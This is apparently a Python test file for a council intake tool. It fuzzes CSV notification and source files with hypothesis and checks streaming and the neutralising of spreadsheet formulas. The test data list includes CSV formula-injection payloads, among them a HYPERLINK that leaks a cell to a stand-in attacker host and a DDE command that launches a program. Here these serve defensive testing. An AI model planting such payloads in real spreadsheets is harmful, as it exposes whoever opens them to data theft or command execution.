"""Bad input, generated (hypothesis): whatever a notification or source file holds, intake
never fails with a traceback, and every row is accepted or rejected with its reason. Files we
write for spreadsheets never carry a live formula. A 100 MB file streams in little memory.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from missing_education.cli import app
from missing_education.cli_support import open_uow
from missing_education.domain import NOTIFICATION_COLUMNS, Notification
from missing_education.domain.csv_safety import FORMULA_STARTS, neutralise_formula
from missing_education.persistence import SqlUnitOfWork
from missing_education.services import intake_files
from missing_education.services.checks import SourceFileError, load_source
from missing_education.services.intake import (
    IntakeFileError,
    Rejection,
    ingest_file,
    open_notification_file,
)
from missing_education.settings import load_settings
from tasks.inbox import write_rejects

TODAY = date(2026, 11, 25)


def read_whole(
    path: Path, *, today: date
) -> tuple[list[tuple[int, Notification]], list[Rejection]]:
    """Every row of a notification file, checked: the good ones and the rejections."""
    with open_notification_file(path, today=today) as stream:
        return list(stream.rows), stream.rejections


# Deterministic: the same examples on every run and machine (a fixed seed, no example database).
QUIET = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
EXAMPLES = settings(max_examples=40, deadline=None, database=None, suppress_health_check=QUIET)
FEW = settings(max_examples=15, deadline=None, database=None, suppress_health_check=QUIET)
GOOD = {
    "forename": "Amira",
    "surname": "Khan",
    "date_of_birth": "2015-03-04",
    "referral_date": "2026-11-20",
    "referrer_organisation": "Matlock Primary",
}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
    "=1+1",
    "+44 1629 000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "＝1+1",
]
# Text a council's file might hold: ordinary, Windows-1252 punctuation, other scripts, control
# characters and NUL bytes, quotes and separators, formulas and very long values.
cell = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="€‘’“”–—…éñüçÆ\u00a0", max_size=20),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=20),
    st.sampled_from(["", " ", '"', '""', ",", "\n", "\r\n", "\x00", "\x1a", "2015-02-30"]),
    st.sampled_from(FORMULAS),
    st.integers(min_value=2001, max_value=3000).map(lambda n: "ab " * (n // 3)),
)
# Most cells are a good value or empty, so rows are accepted as often as rejected.
row_strategy = st.fixed_dictionaries(
    {
        name: st.one_of(st.just(GOOD.get(name, "")), st.just(GOOD.get(name, "")), cell)
        for name in NOTIFICATION_COLUMNS
    }
)
encodings = st.sampled_from(["utf-8", "utf-8-sig", "cp1252"])


def sent(rows: list[dict[str, str]], encoding: str) -> list[dict[str, str]]:
    """The rows as the file holds them: Windows-1252 cannot hold every character."""
    return [
        {k: v.encode(encoding, errors="replace").decode(encoding) for k, v in row.items()}
        for row in rows
    ]


def write_file(path: Path, rows: list[dict[str, str]], encoding: str) -> Path:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(NOTIFICATION_COLUMNS), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))
    return path


def blank(row: dict[str, str]) -> bool:
    return not any(v.strip() for v in row.values())


@EXAMPLES
@given(rows=st.lists(row_strategy, max_size=6), encoding=encodings)
def test_every_row_of_any_file_is_accepted_or_rejected_with_a_reason(
    tmp_path: Path, rows: list[dict[str, str]], encoding: str
) -> None:
    path = write_file(tmp_path / "n.csv", rows, encoding)

    notifications, rejections = read_whole(path, today=TODAY)

    accepted = [number for number, _ in notifications]
    rejected = [r.row for r in rejections]
    assert all(r.reason for r in rejections)
    # Spreadsheet row numbers: header is row 1; a blank line counts as a row but holds nothing.
    expected = [i + 2 for i, row in enumerate(sent(rows, encoding)) if not blank(row)]
    assert sorted(accepted + rejected) == expected
    if encoding != "cp1252":  # the text comes back as it was sent
        for number, notification in notifications:
            assert notification.forename == rows[number - 2]["forename"].strip()


@EXAMPLES
@given(tail=st.binary(max_size=600))
def test_any_bytes_after_the_header_are_rows_taken_in_or_rejected_never_a_traceback(
    tmp_path: Path, tail: bytes
) -> None:
    path = tmp_path / "n.csv"
    header = ",".join(NOTIFICATION_COLUMNS).encode()
    good = ",".join(GOOD.get(name, "") for name in NOTIFICATION_COLUMNS).encode()
    path.write_bytes(header + b"\n" + good + b"\n" + tail)

    notifications, rejections = read_whole(path, today=TODAY)

    numbers = [n for n, _ in notifications] + [r.row for r in rejections]
    assert len(numbers) == len(set(numbers))
    assert 2 in numbers
    assert all(r.reason for r in rejections)


@FEW
@given(rows=st.lists(row_strategy, max_size=6), encoding=encodings)
def test_cme_ingest_of_any_file_reports_every_row_and_never_shows_a_traceback(
    tmp_path: Path, rows: list[dict[str, str]], encoding: str
) -> None:
    path = write_file(tmp_path / "n.csv", rows, encoding)

    result = CliRunner().invoke(app, ["ingest", str(path), "--json"])

    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    taken = report["opened"] + report["linked"] + report["duplicates"]
    assert taken + report["rejected"] == report["received"]
    assert report["received"] == sum(1 for row in sent(rows, encoding) if not blank(row))


@EXAMPLES
@given(reasons=st.lists(st.one_of(cell, st.sampled_from(FORMULAS)), min_size=1, max_size=5))
def test_the_rejects_file_never_holds_a_live_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reasons: list[str]
) -> None:
    monkeypatch.setenv("CME_HOME", str(tmp_path / "home"))
    (tmp_path / "n.csv").write_text("forename\n", encoding="utf-8")
    file_id = intake_files.hold(open_uow(load_settings()), load_settings(), tmp_path / "n.csv").id
    assert write_rejects.fn(file_id, [{"row": i + 2, "reason": r} for i, r in enumerate(reasons)])
    written = tmp_path / "home" / "rejects" / "n-rejects.csv"

    with open(written, newline="", encoding="utf-8") as handle:
        cells = [value for row in csv.reader(handle) for value in row]

    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)]
    assert cells[3::2] == [neutralise_formula(r) for r in reasons]


@EXAMPLES
@given(value=st.one_of(cell, st.sampled_from(FORMULAS), st.integers(), st.floats()))
def test_neutralising_a_formula_keeps_the_text_and_only_the_text(value: object) -> None:
    safe = neutralise_formula(value)
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        assert safe == "'" + value
    else:
        assert safe is value


SOURCE_COLUMNS = ["ref", "forename", "surname", "date_of_birth", "upn", "postcode"]


@FEW
@given(
    rows=st.lists(st.fixed_dictionaries({c: cell for c in SOURCE_COLUMNS}), max_size=6),
    encoding=encodings,
)
def test_a_source_file_of_anything_is_loaded_or_refused_with_a_reason(
    database_url: str, tmp_path: Path, rows: list[dict[str, str]], encoding: str
) -> None:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=SOURCE_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path / "source.csv"
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))

    try:
        loaded = load_source(SqlUnitOfWork(database_url), "school_census", path)
    except SourceFileError as error:
        assert str(error)
        return
    assert all(reason for _, reason in loaded.rejections)
    assert loaded.info.rows + len(loaded.rejections) <= len(rows)


def hundred_megabytes(path: Path, good_rows: int) -> tuple[int, int]:
    """A 100 MB notification file, written in large blocks: a few hundred good rows among tens
    of thousands of rows with an over-long field, lines of a megabyte and more, and NUL bytes.
    Returns (good rows, rows in the file)."""
    header = ",".join(NOTIFICATION_COLUMNS) + "\r\n"
    columns = list(NOTIFICATION_COLUMNS)

    def row(**values: str) -> str:
        return ",".join(values.get(c, "") for c in columns) + "\r\n"

    long_notes = row(**GOOD, notes="x" * 2500)  # over 2,000 characters: rejected
    with_nul = row(**{**GOOD, "forename": "Am\x00ira"})
    very_long_line = "y" * 1_500_000 + "\r\n"  # no real row is this long: rejected unread
    target = 100 * 1024 * 1024
    rows = 0
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(header)
        written = len(header)
        for i in range(good_rows):
            block = (
                row(**{**GOOD, "forename": f"Child{i:05d}"})
                + long_notes * 40
                + with_nul
                + (very_long_line if i % 10 == 0 else "")
            )
            handle.write(block)
            written += len(block)
            rows += 42 + (i % 10 == 0)
        filler = long_notes * 400
        while written < target:
            handle.write(filler)
            written += len(filler)
            rows += 400
    return good_rows, rows


def resident_peak() -> int:
    """The process's peak resident memory in bytes since the last reset (Linux)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM in /proc/self/status")


def test_a_100_megabyte_file_is_streamed_in_little_memory_with_every_row_accounted_for(
    tmp_path: Path,
) -> None:
    settings = load_settings()
    path = tmp_path / "huge.csv"
    good, rows = hundred_megabytes(path, good_rows=200)
    assert path.stat().st_size >= 100 * 1024 * 1024
    seen: list[tuple[int, int]] = []
    uow = SqlUnitOfWork(settings.effective_database_url)
    Path("/proc/self/clear_refs").write_text("5")  # the peak starts again from here
    before = resident_peak()

    report = ingest_file(
        uow, path, settings=settings, today=TODAY, progress=lambda *p: seen.append(p)
    )

    grew = resident_peak() - before
    assert grew < 60 * 1024 * 1024, f"intake took {grew / 2**20:.0f} MB for a 100 MB file"
    assert report.received == rows
    assert report.opened == good
    assert report.rejected == rows - good
    assert {r.reason for r in report.rejections} == {
        "notes: is longer than 2000 characters",
        "forename: contains control characters",
        "the row is longer than 1,000,000 characters",
    }
    assert seen[-1] == (path.stat().st_size, path.stat().st_size)


def test_a_file_that_is_not_a_csv_file_is_refused_whole_with_a_reason(tmp_path: Path) -> None:
    for name, data in {
        "empty.csv": b"",
        "binary.csv": bytes(range(256)) * 4,
        "one-line.csv": b"y" * 1_200_000,
    }.items():
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(IntakeFileError) as refused:
            read_whole(path, today=TODAY)
        assert name in str(refused.value)
